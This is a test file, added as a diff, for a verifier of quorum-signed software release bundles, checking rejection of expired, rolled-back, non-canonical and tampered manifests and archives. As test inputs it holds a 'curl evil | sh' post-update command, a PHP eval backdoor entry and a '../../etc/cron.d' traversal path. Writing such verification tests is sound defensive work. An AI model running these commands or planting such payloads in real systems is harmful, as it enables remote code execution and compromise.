@@ -1,0 +1,213 @@
+import { expect } from 'chai';
+import { concatBytes, toBase64 } from '../lib/bytes.js';
+import { canonicalBytes } from '../lib/canonical.js';
+import { createEnvelope, type Envelope } from '../lib/envelope.js';
+import { VerificationError, type ErrorCode } from '../lib/errors.js';
+import type { Manifest } from '../lib/manifest.js';
+import { writeTar } from '../lib/tar.js';
+import { verifyBundle, type BundleInput, type VerifyOptions } from '../lib/verify.js';
+import { createHash } from 'node:crypto';
+import { bundleInput, makePolicy, makeRelease, manifestEnvelope, NOW, signedBy, type TestPolicy } from './support/fixtures.js';
+
+async function rejection(input: BundleInput, opts: VerifyOptions): Promise<ErrorCode[]> {
+  try {
+    await verifyBundle(input, opts);
+  } catch (err) {
+    expect(err).to.be.instanceOf(VerificationError);
+    return (err as VerificationError).reasons.map((r) => r.code);
+  }
+  throw new Error('expected verification to fail');
+}
+
+/** An archive input whose bytes must never be read (the envelope alone must decide). */
+function untouchable(size: number): BundleInput['archive'] {
+  return {
+    size,
+    chunks: () => {
+      throw new Error('the archive was read before the envelope was trusted');
+    },
+  };
+}
+
+function tarOf(entries: Array<{ path: string; content: string; mode?: '0644' | '0755' }>): Uint8Array {
+  const chunks: Uint8Array[] = [];
+  writeTar((c) => chunks.push(new Uint8Array(c)), entries.map((e) => ({ path: e.path, mode: e.mode ?? '0644', content: Buffer.from(e.content) })), 0);
+  return concatBytes(...chunks);
+}
+
+function withArchive(manifest: Manifest, archive: Uint8Array): Manifest {
+  return {
+    ...manifest,
+    archive: {
+      ...manifest.archive,
+      size: archive.length,
+      sha256: createHash('sha256').update(archive).digest('hex'),
+      sha512: createHash('sha512').update(archive).digest('hex'),
+    },
+  };
+}
+
+describe('verifyBundle', () => {
+  let p: TestPolicy;
+  let opts: VerifyOptions;
+  const release = makeRelease();
+  const quorum = () => p.signers.slice(0, 3);
+
+  beforeEach(() => {
+    p = makePolicy(5, 3);
+    opts = { trusted: p.checked, now: NOW, site: { installed: '10.2.3' } };
+  });
+
+  it('accepts a release signed by a quorum and names who signed', async () => {
+    const v = await verifyBundle(bundleInput(signedBy(release.envelope, quorum()), release.archive), opts);
+    expect(v.document.kind).to.equal('manifest');
+    expect(v.quorum.signedBy.map((s) => s.name)).to.deep.equal(['signer-0', 'signer-1', 'signer-2']);
+  });
+
+  it('rejects m-1 signatures with QUORUM_NOT_MET, without reading the archive', async () => {
+    const env = signedBy(release.envelope, p.signers.slice(0, 2));
+    expect(await rejection({ ...bundleInput(env), archive: untouchable(release.archive.length) }, opts)).to.deep.equal(['QUORUM_NOT_MET']);
+  });
+
+  describe('freshness and applicability', () => {
+    it('rejects an expired manifest (EXPIRED)', async () => {
+      const later = new Date('2026-12-21T00:00:00Z');
+      expect(await rejection(bundleInput(signedBy(release.envelope, quorum()), release.archive), { ...opts, now: later })).to.deep.equal(['EXPIRED']);
+    });
+
+    it('rejects when the trusted policy has expired (POLICY_EXPIRED)', async () => {
+      p = makePolicy(5, 3, { expires: new Date('2026-11-01T00:00:00Z') });
+      const env = signedBy(release.envelope, quorum());
+      expect(await rejection(bundleInput(env, release.archive), { ...opts, trusted: p.checked })).to.deep.equal(['POLICY_EXPIRED']);
+    });
+
+    it('rejects an installed version outside applies-to (NOT_APPLICABLE)', async () => {
+      const env = signedBy(release.envelope, quorum());
+      expect(await rejection(bundleInput(env, release.archive), { ...opts, site: { installed: '10.1.0' } })).to.deep.equal(['NOT_APPLICABLE']);
+    });
+
+    it('rejects a version not greater than the installed one (ROLLBACK)', async () => {
+      const env = signedBy(manifestEnvelope({ ...release.manifest, appliesTo: [] }), quorum());
+      expect(await rejection(bundleInput(env, release.archive), { ...opts, site: { installed: '10.2.4' } })).to.deep.equal(['ROLLBACK']);
+      expect(await rejection(bundleInput(env, release.archive), { ...opts, site: { installed: '10.3.0' } })).to.deep.equal(['ROLLBACK']);
+    });
+
+    it('reports every reason it found, each with its code', async () => {
+      const env = signedBy(release.envelope, p.signers.slice(0, 1));
+      const codes = await rejection(bundleInput(env, release.archive), { ...opts, now: new Date('2027-01-01T00:00:00Z'), site: { installed: '10.2.4' } });
+      expect(codes).to.deep.equal(['QUORUM_NOT_MET', 'EXPIRED', 'NOT_APPLICABLE', 'ROLLBACK']);
+    });
+
+    it('rejects a manifest that expects a newer policy than the site trusts (POLICY_STALE)', async () => {
+      const env = signedBy(manifestEnvelope({ ...release.manifest, policyVersion: 2 }), quorum());
+      expect(await rejection(bundleInput(env, release.archive), opts)).to.deep.equal(['POLICY_STALE']);
+    });
+  });
+
+  describe('exact, canonical bytes', () => {
+    it('rejects a validly signed payload whose bytes are not canonical JSON (NOT_CANONICAL)', async () => {
+      const pretty = new TextEncoder().encode(JSON.stringify(release.manifest, null, 1));
+      const env = signedBy(createEnvelope('manifest', pretty), quorum());
+      expect(await rejection(bundleInput(env, release.archive), opts)).to.deep.equal(['NOT_CANONICAL']);
+    });
+
+    it('rejects a payload with a duplicate key even when signed', async () => {
+      const canonical = Buffer.from(canonicalBytes(release.manifest)).toString('utf8');
+      const dup = new TextEncoder().encode(canonical.replace('{"advisory":null,', '{"advisory":null,"advisory":null,'));
+      const env = signedBy(createEnvelope('manifest', dup), quorum());
+      expect(await rejection(bundleInput(env, release.archive), opts)).to.deep.equal(['NOT_CANONICAL']);
+    });
+
+    it('rejects a risk score that is not what the vector computes (BAD_RISK_VECTOR)', async () => {
+      const m = { ...release.manifest, risk: { ...release.manifest.risk!, score: 10, level: 'Moderately Critical' as const } };
+      expect(await rejection(bundleInput(signedBy(manifestEnvelope(m), quorum()), release.archive), opts)).to.deep.equal(['BAD_RISK_VECTOR']);
+    });
+
+    it('rejects a payload edited after signing (signatures no longer verify)', async () => {
+      const env = signedBy(release.envelope, quorum());
+      const edited: Envelope = { ...env, payload: toBase64(canonicalBytes({ ...release.manifest, postUpdate: [['sh', '-c', 'curl evil | sh']] })) };
+      expect(await rejection(bundleInput(edited, release.archive), opts)).to.deep.equal(['QUORUM_NOT_MET']);
+    });
+
+    it('rejects a policy envelope signed by the quorum when presented where a manifest was signed (type confusion)', async () => {
+      // Same payload bytes, other payloadType: PAE binds the type, so the manifest signatures do not carry over.
+      const env = signedBy(release.envelope, quorum());
+      const confused: Envelope = { ...env, payloadType: 'application/vnd.countersign.policy+json' };
+      const codes = await rejection(bundleInput(confused, release.archive), opts);
+      expect(codes[0]).to.be.oneOf(['SCHEMA_INVALID', 'QUORUM_NOT_MET']);
+    });
+  });
+
+  describe('tampering with the archive, caught before anything is extracted', () => {
+    const signed = () => signedBy(release.envelope, quorum());
+
+    it('a flipped byte: DIGEST_MISMATCH', async () => {
+      const bad = release.archive.slice();
+      bad[700] = bad[700]! ^ 1;
+      expect(await rejection(bundleInput(signed(), bad), opts)).to.include('DIGEST_MISMATCH');
+    });
+
+    it('truncated: DIGEST_MISMATCH without reading it', async () => {
+      expect(await rejection({ ...bundleInput(signed()), archive: untouchable(release.archive.length - 512) }, opts)).to.deep.equal(['DIGEST_MISMATCH']);
+    });
+
+    it('extended: DIGEST_MISMATCH without reading it', async () => {
+      expect(await rejection({ ...bundleInput(signed()), archive: untouchable(release.archive.length + 1) }, opts)).to.deep.equal(['DIGEST_MISMATCH']);
+    });
+
+    it('no archive at all: DIGEST_MISMATCH', async () => {
+      expect(await rejection(bundleInput(signed()), opts)).to.deep.equal(['DIGEST_MISMATCH']);
+    });
+
+    const entries = [
+      { path: 'core/bootstrap.inc', content: '<?php print htmlspecialchars($_GET["q"]);\n' },
+      { path: 'core/lib/Drupal.php', content: "<?php class Drupal { const VERSION = '10.2.4'; }\n" },
+      { path: 'core/lib/Sanitizer.php', content: '<?php // new\n', mode: '0755' as const },
+    ];
+
+    it('the reference archive rebuilt by hand matches the builder byte for byte', () => {
+      expect(Buffer.from(tarOf(entries)).equals(Buffer.from(release.archive))).to.equal(true);
+    });
+
+    // For entry-level attacks the manifest's digest is updated and re-signed by the quorum, so that
+    // only the entry checks stand between the archive and the site.
+    for (const [name, tampered, code] of [
+      ['an entry added', [...entries, { path: 'core/zz-backdoor.php', content: '<?php eval($_GET["x"]);\n' }], 'ENTRY_EXTRA'],
+      ['an entry removed', entries.slice(0, 2), 'ENTRY_MISSING'],
+      ['an entry renamed', [entries[0]!, { ...entries[1]!, path: 'core/lib/Drupal2.php' }, entries[2]!], 'ENTRY_EXTRA'],
+      ['an entry whose content differs', [entries[0]!, { ...entries[1]!, content: '<?php evil();\n' }, entries[2]!], 'ENTRY_MISMATCH'],
+    ] as const) {
+      it(`${name}: ${code}`, async () => {
+        const archive = tarOf([...tampered]);
+        const env = signedBy(manifestEnvelope(withArchive(release.manifest, archive)), quorum());
+        expect(await rejection(bundleInput(env, archive), opts)).to.include(code);
+      });
+    }
+
+    it('an unsafe path in a signed manifest: UNSAFE_PATH, and the archive is never read', async () => {
+      const m = { ...release.manifest, files: [...release.manifest.files, { op: 'add' as const, path: '../../etc/cron.d/x', sha256: '0'.repeat(64), size: 1, mode: '0644' as const }] };
+      const env = signedBy(manifestEnvelope(m), quorum());
+      expect(await rejection({ ...bundleInput(env), archive: untouchable(release.archive.length) }, opts)).to.deep.equal(['UNSAFE_PATH']);
+    });
+
+    it('an archive above the size cap: SIZE_LIMIT before parsing anything', async () => {
+      const codes = await rejection({ ...bundleInput(signed()), archive: untouchable(release.archive.length) }, { ...opts, limits: { maxArchiveBytes: 1024 } });
+      expect(codes).to.deep.equal(['SIZE_LIMIT']);
+    });
+
+    it('an envelope above the size cap: SIZE_LIMIT', async () => {
+      const codes = await rejection({ ...bundleInput(signed()), archive: untouchable(release.archive.length) }, { ...opts, limits: { maxEnvelopeBytes: 100 } });
+      expect(codes).to.deep.equal(['SIZE_LIMIT']);
+    });
+
+    it('more files than the entry cap: SIZE_LIMIT', async () => {
+      const codes = await rejection({ ...bundleInput(signed()), archive: untouchable(release.archive.length) }, { ...opts, limits: { maxEntries: 2 } });
+      expect(codes).to.deep.equal(['SIZE_LIMIT']);
+    });
+  });
+
+  it('verifies a signed policy against the trusted policy', async () => {
+    const v = await verifyBundle(bundleInput(p.signed), opts);
+    expect(v.document.kind).to.equal('policy');
+  });
+});
